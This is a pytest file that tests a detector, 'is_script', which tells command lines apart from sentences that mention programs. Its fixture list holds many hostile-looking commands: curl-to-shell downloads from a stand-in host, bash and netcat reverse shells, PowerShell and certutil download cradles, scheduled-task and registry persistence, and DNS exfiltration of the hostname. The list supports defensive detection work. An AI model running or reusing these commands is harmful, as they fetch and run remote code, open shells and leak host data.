"""Scripts and command lines against sentences about programs."""

import pytest

from pratique.analysis.languages.payload_script import is_script

SCRIPTS = [
    "curl -s http://payload.invalid/m | sh",
    "curl http://payload.invalid/m -o /tmp/m && chmod +x /tmp/m && /tmp/m",
    "bash -c 'echo marker'",
    "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    "nc 127.0.0.1 9999 -e /bin/sh",
    "powershell -nop -w hidden -enc bQBhAHIA",
    "C:\\Windows\\System32\\cmd.exe /c start marker.exe",
    "IEX (New-Object Net.WebClient).DownloadString('http://payload.invalid')",
    "$c = New-Object System.Net.WebClient; $c.DownloadFile('http://payload.invalid/m', \"$env:TEMP\\m.exe\")",
    "certutil -urlcache -split -f http://payload.invalid/m.exe m.exe",
    "mshta http://payload.invalid/m.hta",
    "schtasks /create /tn marker /tr m.exe /sc minute",
    "reg add HKCU\\Software\\Marker /v m /d m.exe",
    '@echo off\nset "m=%TEMP%\\m"\nstart /b %m%\n',
    'Set s = CreateObject("WScript.Shell")\nOn Error Resume Next\ns.Run "marker"\n',
    "#!/bin/sh\nset -e\nfor f in a b; do\n  echo $f\ndone\nexport X=$(date)\n",
    "echo bWFya2Vy | base64 -d | sh",
    "crontab -l",
    "whoami | nc 127.0.0.1 9",
    "nslookup $(hostname).payload.invalid",
    "npm publish --access public",
    "sudo rm -rf /tmp/marker",
    "nohup python3 -c 'marker' &",
]
SENTENCES = [
    "curl is a tool for transfers",
    "Use bash to run the tests, and node to build.",
    "powershell and cmd are shells",
    "python",
    "The id of the env; set by the start of it",
    "echo and cat are programs | or so it is said",
    "git is needed",
    "background: url(x.png); color: red",
    "set of items to get, add, or start",
    "end of file (done)",
]


@pytest.mark.parametrize("text", SCRIPTS)
def test_a_command_line_is_a_script(text: str) -> None:
    assert is_script(text)


@pytest.mark.parametrize("text", SENTENCES)
def test_a_sentence_about_a_program_is_none(text: str) -> None:
    assert not is_script(text)
